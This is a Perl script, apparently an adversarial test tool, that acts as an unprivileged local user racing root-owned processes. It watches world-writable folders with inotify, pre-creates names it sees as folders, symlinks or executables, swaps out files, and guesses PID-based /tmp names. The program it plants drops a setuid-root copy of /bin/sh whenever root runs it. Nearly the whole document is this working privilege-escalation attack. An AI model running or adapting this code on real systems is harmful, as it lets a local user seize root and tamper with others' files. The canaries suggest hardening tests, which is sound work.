#!/usr/bin/perl
# A local user without rights who races whoever works as root: watches the folders that all may write to, learns each name
# that is made anywhere he can look, makes it himself everywhere before it is used again (as a folder, a link, a file), and
# replaces what is put into his folders. What he gains leaves marks in CAUGHT, or in the canaries that his links lead to.
# Only what perl itself has: the hosts have no modules. Called with the folder he may keep things in.
use strict;
use warnings;
use Fcntl qw(:DEFAULT :mode);

my $home = shift // die "racer.pl HOME [NAME...]\n";
my $caught = "$home/caught";
my $mark = 'hostile-canary-7f3a';
$| = 1;
umask 0;
mkdir $caught, 0777;
chmod 0777, $caught;
open my $log, '>>', "$home/racer.log" or die;
{ my $old = select $log; $| = 1; select $old; }
sub say_it { print $log join(' ', @_), "\n" }

# Whoever runs this leaves his number; root leaves a shell with root's rights, too.
my $program = <<"END";
#!/bin/sh
# $mark
id -u >$caught/ran.\$\$.\$(id -u)
[ "\$(id -u)" != 0 ] || { cp /bin/sh $caught/rootsh; chmod 4755 $caught/rootsh; } 2>/dev/null
exec cat >/dev/null
END

# Where he may write, and where he may only look.
my @write = grep { -d && -w } split /\n/, `find / /var /dev/shm /run -xdev -type d -perm -0002 ! -path '/proc/*' ! -path '/sys/*' 2>/dev/null`;
push @write, grep { -d && -w } ('/tmp', '/var/tmp', '/dev/shm', '/run/lock', "$home/work");
mkdir "$home/work", 0777;
my %write = map { $_ => 1 } grep { $_ ne $caught && !/systemd-private/ } @write, "$home/work";
my @look = grep { -d && -r } ('/', '/run', '/var', '/var/lib', '/var/lib/ferry', '/var/backups', '/etc', '/etc/kubernetes', '/etc/ferry',
    '/usr/local', '/usr/local/bin', '/usr/local/lib', '/usr/local/lib/ferry', '/opt', '/opt/cni/bin', '/home', '/home/ops', '/run/ferry', '/srv');

# inotify by number: CREATE, MOVED_TO, CLOSE_WRITE, DELETE, MODIFY, ATTRIB.
my ($INIT, $ADD) = (294, 254);
my $fd = syscall($INIT, 0x800);
die "no inotify: $!" if $fd < 0;
open my $events, '<&=', $fd or die;
my (%watch, %path);
sub watch {
    my ($folder) = @_;
    return if $watch{$folder};
    my $copy = "$folder\0";
    my $wd = syscall($ADD, $fd, $copy, 0x100 | 0x80 | 0x8 | 0x200 | 0x2 | 0x4);
    return if $wd < 0;
    $watch{$folder} = $wd;
    $path{$wd} = $folder;
}
watch($_) for keys %write, @look;

my (%names, %prefixes, %mine, @kinds);
my %count = (events => 0, made => 0, replaced => 0, learned => 0);

sub mine { my @s = lstat $_[0]; @s && $s[4] == $< }

sub program_at {
    my ($path) = @_;
    sysopen(my $out, $path, O_WRONLY | O_CREAT | O_EXCL, 0777) or return 0;
    syswrite $out, $program;
    close $out;
    return 1;
}

# One of the ways in which a name can be there before its owner comes.
sub make {
    my ($path, $kind) = @_;
    return if -l $path || -e $path;
    my $done = 0;
    if ($kind == 0) {
        if (mkdir $path, 0777) {
            program_at("$path/$_") for 'ferry-probe', 'probe';
            # Another folder of that name may have been watched a moment ago.
            delete $watch{$path};
            watch($path);
            $done = 1;
        }
    } elsif ($kind == 1) { $done = symlink '/root/hostile-canary', $path }
    elsif ($kind == 2) { $done = symlink '/etc/hostile-canary', $path }
    elsif ($kind == 3) { $done = program_at($path) }
    else { mkdir "$home/trap", 0777; watch("$home/trap"); $done = symlink "$home/trap", $path }
    if ($done) { $mine{$path} = $kind; $count{made}++ }
}

sub unmake {
    my ($path) = @_;
    return unless mine($path);
    if (-d $path && !-l $path) {
        if (opendir my $dir, $path) { unlink "$path/$_" for grep { !/^\.\.?$/ } readdir $dir }
        rmdir $path;
        delete $watch{$path};
    } else { unlink $path }
}

sub learn {
    my ($name) = @_;
    return if length $name > 200 || $name =~ /^(systemd-private-|\.?hostile)/;
    if ($name =~ /^(.*?\D)\d+$/) { $prefixes{$1} //= time if keys %prefixes < 12 }
    return if $names{$name};
    return if keys %names > 250;
    $names{$name} = 1;
    $count{learned}++;
    # Folders first: they are what `mkdir -p` takes for its own.
    make("$_/$name", 0) for grep { -d } keys %write;
}

# Something that is not his has come: take it, write to it, put his own in its place.
sub attack {
    my ($folder, $name) = @_;
    my $path = "$folder/$name";
    return if $name =~ /^\.hostile-/ || mine($path) || $path eq "$home/racer.log" || $folder eq $caught;
    my @folder = stat $folder;
    my $own = @folder && $folder[4] == $<;
    # What is on its way is checked when it has come: mostly he waits for that.
    return if $own && $name =~ /part/ && rand() < 0.8;
    if ($own || (@folder && $folder[2] & 0002 && !($folder[2] & S_ISVTX))) {
        if (rename $path, "$folder/.hostile-$$-$count{replaced}") {
            program_at($path);
            $count{replaced}++;
            say_it("replaced $path");
        }
    }
    if (-f $path && !-l $path && open my $out, '>>', $path) { say_it("wrote to $path"); print $out "\n# $mark\n" }
    if (-d $path && !-l $path) { watch($path); program_at("$path/ferry-probe") and say_it("placed a program in $path") }
}

learn($_) for @ARGV;
my ($tick, $turn) = (0, 0);
local $SIG{TERM} = sub { summary(); exit 0 };
sub summary { say_it(join ' ', map { "$_=$count{$_}" } sort keys %count) }

while (1) {
    my $ready = '';
    vec($ready, $fd, 1) = 1;
    select $ready, undef, undef, 0.1;
    my $buffer = '';
    while (1) {
        my $got = sysread $events, $buffer, 65536;
        last unless $got;
        my $at = 0;
        while ($at + 16 <= $got) {
            my ($wd, $mask, $cookie, $length) = unpack 'iIII', substr $buffer, $at, 16;
            my $name = $length ? unpack 'Z*', substr $buffer, $at + 16, $length : '';
            $at += 16 + $length;
            my $folder = $path{$wd} or next;
            if ($mask & 0x8000) {
                # The folder itself is gone; one of that name may come again.
                delete $path{$wd};
                delete $watch{$folder} if ($watch{$folder} // -1) == $wd;
                next;
            }
            next if $name eq '' || $folder eq $caught;
            $count{events}++;
            if ($mask & 0x200) {
                # Gone: his own takes its place at once.
                make("$folder/$name", 0) if $names{$name} && $write{$folder};
            } else {
                attack($folder, $name) if $write{$folder} || mine($folder);
                learn($name) if $mask & (0x100 | 0x80) && !$mine{"$folder/$name"};
            }
        }
    }
    next if time == $tick;
    $tick = time;
    $turn++;
    # Names that end in a process's number: the next ones, as links.
    my $pid = fork;
    if (defined $pid && $pid == 0) { POSIX_exit() }
    if ($pid) {
        waitpid $pid, 0;
        for my $prefix (keys %prefixes) {
            for my $n ($pid + 1 .. $pid + 150) { make("/tmp/$prefix$n", 1) }
            unmake("/tmp/$prefix$_") for $pid - 60 .. $pid;
        }
    }
    # The others in turn as folder, link, program.
    if ($turn % 5 == 0) {
        my $kind = (0, 0, 1, 0, 4, 0, 3, 0, 2)[($turn / 5) % 9];
        for my $path (keys %mine) {
            next if ($turn / 5 + length $path) % 3;
            my ($name) = $path =~ m{([^/]+)$};
            next unless $names{$name};
            unmake($path);
            make($path, $kind);
        }
        for my $folder (keys %write) { make("$folder/$_", 0) for keys %names }
    }
    summary() if $turn % 30 == 0;
}

# Ends a child without what perl does at an end.
sub POSIX_exit { exec '/bin/true' or kill 9, $$ }
